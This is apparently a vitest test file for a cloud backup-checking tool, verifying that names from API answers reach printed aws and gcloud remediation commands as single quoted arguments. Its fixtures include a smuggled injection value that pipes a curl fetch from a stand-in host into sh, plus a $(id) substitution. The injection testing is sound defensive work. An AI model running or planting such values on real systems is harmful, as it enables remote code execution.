/**
 * Every command a finding, a chat answer or an error prints for a DBA to paste, built from a name an
 * API answer (or the policy) sent: the name reaches the shell as one argument, never as a command
 * of its own. Plain names print unchanged (the tests of each area prove that).
 */
import { describe, expect, it } from 'vitest';
import { unshareCommand } from '../../functions/actions/snapshot/aws.ts';
import { backupPlanRefusal } from '../../functions/actions/snapshot/gcp.ts';
import { keysChecks } from '../../functions/checks/keys/index.ts';
import { keysNotDeletingCheck } from '../../functions/checks/keys/not-deleting.ts';
import { keysReplicatedCheck } from '../../functions/checks/keys/replicated.ts';
import {
  gcloudAddVersion,
  gcloudEnableLatest,
  replicasRekeyed,
} from '../../functions/checks/keys/wording.ts';
import { pitrCrossRegionCheck } from '../../functions/checks/pitr/cross-region.ts';
import { pitrChecks } from '../../functions/checks/pitr/index.ts';
import { pitrRetentionCheck } from '../../functions/checks/pitr/retention.ts';
import { refusalNotOfPermission } from '../../functions/core/errors.ts';
import { backupConfigurationCommand, backupPlanAssociationsCommand } from '../../functions/core/facts.ts';
import type { KeySecretFact } from '../../functions/core/key-facts.ts';
import { gcloudVersionArgs, kmsKeyFix } from '../../functions/core/kms-key-states.ts';
import { parsePolicy } from '../../functions/core/policy.ts';
import { snapshotGate } from '../../functions/jobs/readiness.ts';
import {
  auroraClusterFact,
  cloudSqlFact,
  contextWith,
  daysAgo,
  rdsInstanceFact,
} from '../checks/pitr/fixtures.ts';

/** A name with a quote, a command substitution, a `;` and spaces; and one fit for a path segment. */
const HOSTILE = "db-1; curl https://x.invalid/$(id) | sh #'";
const SEGMENT = "k; touch $(id) 'q'";

/**
 * The words a POSIX shell splits `command` into (quotes and backslashes, no expansion): enough to
 * tell whether a name reaches the command as one argument. An unquoted `;`, `|`, `&`, `$(`, a
 * backtick or `#` would make the shell run or drop something, and an unquoted `<` or `>` would read a
 * file or create (and empty) one named by the next word, so the splitter refuses them.
 */
function shellWords(command: string): string[] {
  const words: string[] = [];
  let word: string | undefined;
  for (let i = 0; i < command.length; i++) {
    const c = command[i] as string;
    if (c === ' ') {
      if (word !== undefined) words.push(word);
      word = undefined;
    } else if (c === "'") {
      const end = command.indexOf("'", i + 1);
      if (end < 0) throw new Error(`unterminated quote in ${command}`);
      word = (word ?? '') + command.slice(i + 1, end);
      i = end;
    } else if (c === '"') {
      const end = command.indexOf('"', i + 1);
      const inner = command.slice(i + 1, end);
      if (end < 0 || /[$`\\]/.test(inner)) throw new Error(`shell reads inside "…" in ${command}`);
      word = (word ?? '') + inner;
      i = end;
    } else if (c === '\\') {
      word = (word ?? '') + command.charAt(i + 1);
      i++;
    } else if (/[;|&`$#<>()]/.test(c)) {
      throw new Error(`unquoted ${c} in ${command}`);
    } else {
      word = (word ?? '') + c;
    }
  }
  if (word !== undefined) words.push(word);
  return words;
}

/** The commands in `text`: each backticked span naming aws or gcloud, or `text` itself when it is one. */
function commandsIn(text: string): string[] {
  if (/^(aws|gcloud|backup-guard) /.test(text)) return [text];
  const spans: string[] = [];
  // A span ends at the backtick followed by nothing a quoted word continues with.
  const re = /`((?:aws|gcloud) (?:\\.|[^`'\\]|'[^']*')*)`/g;
  for (let match = re.exec(text); match; match = re.exec(text)) spans.push(match[1] as string);
  return spans;
}

/** Every command in `text` that names `name` passes it as one whole argument (alone or after `=`). */
function expectOneArgument(text: string | undefined, name: string): void {
  const commands = commandsIn(text ?? '').filter(
    (command) => command.includes('$(id)') || command.includes(name),
  );
  expect(commands.length, `no command naming the hostile value in: ${text}`).toBeGreaterThan(0);
  for (const command of commands) {
    const words = shellWords(command);
    expect(
      words.some((w) => w === name || w.endsWith(`=${name}`) || w.includes(`'${name}'`)),
      command,
    ).toBe(true);
  }
}

function secretFact(id: string, region = 'eu-west-1'): KeySecretFact {
  return {
    resource: { provider: 'aws', account: 'p', region, type: 'AwsSecretsManagerSecret', id },
    items: [],
    existence: { state: 'read', value: true },
    encryption: { state: 'read', value: [] },
    replication: { state: 'read', value: { kind: 'aws', primaryRegion: region, replicas: [] } },
    content: { state: 'read', items: [] },
  } as KeySecretFact;
}

const KEYS_CONTEXT = { policy: parsePolicy({}), now: new Date('2026-12-02T12:00:00Z') };
const REQUIRE = { pitr: { requireCrossRegionBackup: true } };
const hostileSql = (() => {
  const base = cloudSqlFact();
  return { ...base, resource: { ...base.resource, id: HOSTILE } };
})();

const cases: ReadonlyArray<readonly [string, () => string | undefined, string]> = [
  [
    'kms: enable a Disabled key',
    () => kmsKeyFix({ id: HOSTILE, state: 'Disabled', region: 'eu-west-1' }),
    HOSTILE,
  ],
  ['kms: cancel a deletion', () => kmsKeyFix({ id: HOSTILE, state: 'PendingDeletion' }), HOSTILE],
  ['kms: the key Region', () => kmsKeyFix({ id: 'k', state: 'Disabled', region: HOSTILE }), HOSTILE],
  ['kms: import material again', () => kmsKeyFix({ id: HOSTILE, state: 'PendingImport' }), HOSTILE],
  [
    'cloud kms: a key version',
    () =>
      `gcloud kms keys versions enable ${gcloudVersionArgs(`projects/p/locations/global/keyRings/r/cryptoKeys/${SEGMENT}/cryptoKeyVersions/1`)}`,
    SEGMENT,
  ],
  [
    'snapshot: unshare',
    () => unshareCommand({ id: HOSTILE, kind: 'rds-instance' } as never, ['111'], 'eu-west-1'),
    HOSTILE,
  ],
  [
    'snapshot: unshare Region',
    () => unshareCommand({ id: 's', kind: 'rds-instance' } as never, ['111'], HOSTILE),
    HOSTILE,
  ],
  [
    'snapshot: backup-plan refusal',
    () =>
      backupPlanRefusal({
        kind: 'cloudsql-instance',
        id: HOSTILE,
        account: HOSTILE,
        region: 'r',
        backupTier: 'ENHANCED',
      } as never)?.message,
    HOSTILE,
  ],
  [
    'facts: backup plan associations',
    () => backupPlanAssociationsCommand({ account: HOSTILE, region: 'r' }),
    HOSTILE,
  ],
  ['facts: backup configuration', () => backupConfigurationCommand({ id: HOSTILE, account: 'p' }), HOSTILE],
  ['keys: enable latest', () => gcloudEnableLatest(secretFact(`projects/p/secrets/${SEGMENT}`)), SEGMENT],
  ['keys: add a version', () => gcloudAddVersion(secretFact(`projects/p/secrets/${SEGMENT}`)), SEGMENT],
  [
    'keys: store a value (keys.not-deleting)',
    () =>
      keysNotDeletingCheck.evaluate(
        {
          ...secretFact(HOSTILE),
          latestVersion: { state: 'read', value: { state: 'none' } },
        } as KeySecretFact,
        KEYS_CONTEXT,
      )?.remediationText,
    HOSTILE,
  ],
  [
    'keys: store a value (keys.replicated)',
    () => {
      const base = secretFact(HOSTILE);
      return keysReplicatedCheck.evaluate(
        {
          ...base,
          replication: {
            state: 'read',
            value: {
              kind: 'aws',
              primaryRegion: 'eu-west-1',
              replicas: [{ region: 'us-east-1', status: 'InSync' }],
            },
          },
          latestVersion: { state: 'read', value: { state: 'none' } },
        } as KeySecretFact,
        KEYS_CONTEXT,
      )?.remediationText;
    },
    HOSTILE,
  ],
  [
    'readiness: the snapshot command of a NO-GO',
    () => {
      // The command is a code span, as every other printed command: what is in it is what a reader pastes.
      const action = snapshotGate(
        [],
        { ...hostileSql.resource, provider: 'aws', region: 'eu-west-1' },
        24,
        new Date(),
      ).action as string;
      expect(action).toMatch(/^Run `backup-guard snapshot .*` and run readiness again\.$/);
      return action.slice(action.indexOf('`') + 1, action.lastIndexOf('` and run readiness'));
    },
    HOSTILE,
  ],
  [
    'errors: a Google API not enabled on the policy project',
    () =>
      refusalNotOfPermission(
        { reason: 'SERVICE_DISABLED' },
        { project: HOSTILE, service: 'x.googleapis.com' },
      ),
    HOSTILE,
  ],
  [
    'errors: billing disabled on the policy project',
    () => refusalNotOfPermission({ reason: 'BILLING_DISABLED' }, { project: HOSTILE }),
    HOSTILE,
  ],
  ['keys: rekey replicas', () => replicasRekeyed(secretFact(HOSTILE), ['us-east-1']), HOSTILE],
  [
    'cross-region: Cloud SQL location',
    () => pitrCrossRegionCheck.evaluate(hostileSql, contextWith(REQUIRE))?.remediationText,
    HOSTILE,
  ],
  [
    'cross-region: an unplaced Aurora replica',
    () => {
      const base = auroraClusterFact({
        aurora: { replicaRegions: [], globalClusterIdentifier: undefined, unplacedReplicas: ['x'] } as never,
      });
      return pitrCrossRegionCheck.evaluate(
        { ...base, resource: { ...base.resource, id: HOSTILE } },
        contextWith(REQUIRE),
      )?.remediationText;
    },
    HOSTILE,
  ],
  [
    'cross-region: an Aurora replica keeping too few days',
    () =>
      pitrCrossRegionCheck.evaluate(
        auroraClusterFact({
          aurora: {
            replicaRegions: ['eu-central-1'],
            globalClusterIdentifier: undefined,
            copies: [
              {
                region: 'eu-central-1',
                arn: 'arn:aws:rds:eu-central-1:1:cluster:c',
                read: true,
                id: HOSTILE,
                status: 'available',
                backupRetentionPeriod: 7,
                earliestRestorableTime: daysAgo(7),
              } as never,
            ],
          },
        }),
        contextWith(REQUIRE),
      )?.remediationText,
    HOSTILE,
  ],
  [
    'cross-region: replicas by their source ARN',
    () => {
      const base = auroraClusterFact({
        aurora: { replicaRegions: ['eu-central-1'], globalClusterIdentifier: undefined },
      });
      return pitrCrossRegionCheck.evaluate(
        { ...base, resource: { ...base.resource, arn: HOSTILE } },
        contextWith(REQUIRE),
      )?.remediationText;
    },
    // The JMESPath raw string holds the ARN with its `'` escaped.
    `DBClusters[?ReplicationSourceIdentifier=='${HOSTILE.replaceAll("'", "\\'")}'].[DBClusterIdentifier,BackupRetentionPeriod,EarliestRestorableTime]`,
  ],
];

describe('a name from an answer in a printed command', () => {
  it.each(cases)('%s: reaches the shell as one argument', (_, print, name) => {
    expectOneArgument(print(), name);
  });
});

/**
 * A placeholder a reader replaces (`<destination-region>`, the ARN of an instance whose ARN was not
 * sent) may still be pasted as it is: written bare, its `<` reads a file and its `>` creates (and
 * empties) one named by the next word. Each must be a quoted word, so the command fails harmlessly.
 */
const placeholderTexts: ReadonlyArray<readonly [string, () => string | undefined]> = [
  [
    'cross-region: an RDS instance without its ARN',
    () => {
      const base = rdsInstanceFact();
      return pitrCrossRegionCheck.evaluate(
        { ...base, resource: { ...base.resource, arn: undefined } } as never,
        contextWith(REQUIRE),
      )?.remediationText;
    },
  ],
  [
    'cross-region: a Cloud SQL location',
    () => pitrCrossRegionCheck.evaluate(cloudSqlFact(), contextWith(REQUIRE))?.remediationText,
  ],
  ['kms: a custom key store', () => kmsKeyFix({ id: 'k', state: 'Unavailable' })],
  ['kms: import material again', () => kmsKeyFix({ id: 'k', state: 'PendingImport' })],
  ['keys: enable a version not read', () => gcloudEnableLatest(secretFact('projects/p/secrets/s'))],
  ['keys: add a version', () => gcloudAddVersion(secretFact('projects/p/secrets/s'))],
  [
    'errors: a Google API not enabled, service unknown',
    () => refusalNotOfPermission({ reason: 'SERVICE_DISABLED' }, { project: 'p' }),
  ],
  ...[...keysChecks, ...pitrChecks].flatMap((check) =>
    [check.metadata.remediation.text, ...Object.values(check.metadata.remediation.texts ?? {})].map(
      (text) => [`catalog: ${check.metadata.id}`, () => text] as const,
    ),
  ),
];

describe('a placeholder in a printed command', () => {
  it.each(placeholderTexts)('%s: is one quoted word, never a redirection', (_, print) => {
    const commands = commandsIn(print() ?? '');
    for (const command of commands) expect(() => shellWords(command), command).not.toThrow();
  });

  it('some of the printed commands hold placeholders', () => {
    const all = placeholderTexts.flatMap(([, print]) => commandsIn(print() ?? ''));
    expect(all.filter((command) => command.includes('<')).length).toBeGreaterThan(5);
  });

  it('the Enterprise Plus upgrade names its tier as a placeholder', () => {
    const fact = cloudSqlFact({}, { edition: 'ENTERPRISE' } as never);
    const text =
      pitrRetentionCheck.evaluate(fact, contextWith({ pitr: { minPitrDays: 30 } }))?.remediationText ?? '';
    expect(text).toContain('--tier=');
    for (const command of commandsIn(text)) expect(() => shellWords(command), command).not.toThrow();
  });
});
